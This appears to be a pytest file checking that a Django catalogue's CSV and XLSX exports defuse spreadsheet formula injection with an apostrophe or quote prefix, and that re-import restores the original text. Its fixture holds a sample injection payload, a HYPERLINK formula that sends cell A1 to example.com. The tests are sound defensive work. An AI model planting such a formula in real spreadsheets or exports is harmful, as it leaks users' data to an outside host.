"""CSV injection: text a spreadsheet would run as a formula (=HYPERLINK(…), +…, -…, @…) is never
live in the open-data files -- an apostrophe in front in the CSV, Excel's quote prefix in the
.xlsx -- and the import takes the apostrophe off, so an export still imports unchanged."""

import csv
import io

import pytest

from catalogue.importing import COLUMNS, import_file
from catalogue.models import Certification, Product
from tests.factories import ProducerFactory, certified_product

from .helpers import csv_bytes, row

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://example.com/?leak="&A1,"Bấm vào đây")'


@pytest.fixture
def formulas():
    producer = ProducerFactory(name="+84 HTX Gốm", address="-Thôn 3, Bát Tràng")
    return [
        certified_product(5, code="HN-F-0001", name_vi=LINK, name_en="@SUM(1+1)", producer=producer,
                          description_vi="-- men lam\nvẽ tay", description_en="+10% sugar-free"),
        certified_product(4, code="HN-F-0002", name_vi="'=1+1", name_en="'Quoted", producer=producer,
                          description_vi="Giá: =350.000 ₫ (không phải công thức)"),
    ]


def export(client, extension):
    return b"".join(client.get(f"/products/export.{extension}").streaming_content)


def csv_cells(body):
    return {r["code"]: r for r in csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline=""))}


def test_csv_cells_that_start_like_a_formula_get_an_apostrophe(client, formulas):
    # Neither the admin nor the import keeps leading whitespace, but text saved in code might.
    Product.objects.filter(code="HN-F-0002").update(description_en="\tTab first")
    rows = csv_cells(export(client, "csv"))
    first, second = rows["HN-F-0001"], rows["HN-F-0002"]
    assert first["name_vi"] == "'" + LINK
    assert first["name_en"] == "'@SUM(1+1)"
    assert first["producer"] == "'+84 HTX Gốm"
    assert first["address"] == "'-Thôn 3, Bát Tràng"
    assert first["description_vi"] == "'-- men lam\nvẽ tay"
    assert first["description_en"] == "'+10% sugar-free"
    # Text that already starts with an apostrophe before a formula gets one more; other text,
    # dates and numbers are as they were.
    assert second["name_vi"] == "''=1+1"
    assert second["name_en"] == "'Quoted"
    assert second["description_en"] == "'\tTab first"
    assert second["description_vi"] == "Giá: =350.000 ₫ (không phải công thức)"
    assert first["stars"] == "5" and first["issued_on"][:2] == "20"
    # No cell of the file starts a formula.
    for cells in rows.values():
        assert not [c for c in cells.values() if c and c[0] in "=+-@\t\r"], cells


def test_xlsx_cells_are_text_with_the_quote_prefix_and_values_unchanged(client, formulas):
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(export(client, "xlsx"))).active
    rows = {r[0].value: dict(zip(COLUMNS, r)) for r in sheet.iter_rows(min_row=2)}
    first = rows["HN-F-0001"]
    for column, value in (("name_vi", LINK), ("name_en", "@SUM(1+1)"), ("producer", "+84 HTX Gốm")):
        assert first[column].value == value
        assert first[column].data_type == "s" and first[column].quotePrefix
    assert rows["HN-F-0002"]["name_en"].value == "'Quoted"
    assert not rows["HN-F-0002"]["name_en"].quotePrefix


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
def test_an_export_with_formula_text_imports_back_unchanged(client, formulas, extension):
    before = sorted(Product.objects.values_list("pk", "name_vi", "name_en", "description_vi", "description_en",
                                                "updated_at"))
    history = (Product.history.count(), Certification.history.count())

    report = import_file(export(client, extension), f"export.{extension}", dry_run=False)

    assert report.ok, report.problems
    assert report.unchanged == 2, report.rows
    assert report.created == report.updated == 0
    assert report.new_producers == report.updated_producers == []
    assert sorted(Product.objects.values_list("pk", "name_vi", "name_en", "description_vi", "description_en",
                                              "updated_at")) == before
    assert (Product.history.count(), Certification.history.count()) == history
    assert Product.objects.get(code="HN-F-0001").name_vi == LINK


def test_a_hand_quoted_formula_imports_without_its_apostrophe_and_other_apostrophes_stay():
    report = import_file(csv_bytes([
        row(1, name_vi="'=1+1", name_en="'Rock 'n' roll"),
        row(2, name_vi="''-2", name_en="'"),
    ]), "file.csv", dry_run=False)
    assert report.ok, report.problems
    assert sorted(Product.objects.values_list("name_vi", "name_en")) == [("'-2", "'"), ("=1+1", "'Rock 'n' roll")]


def test_the_open_data_page_explains_the_apostrophe(client):
    assert "has an apostrophe (') in front" in client.get("/en/open-data/").text
    assert "có thêm dấu nháy đơn (') ở đầu" in client.get("/open-data/").text
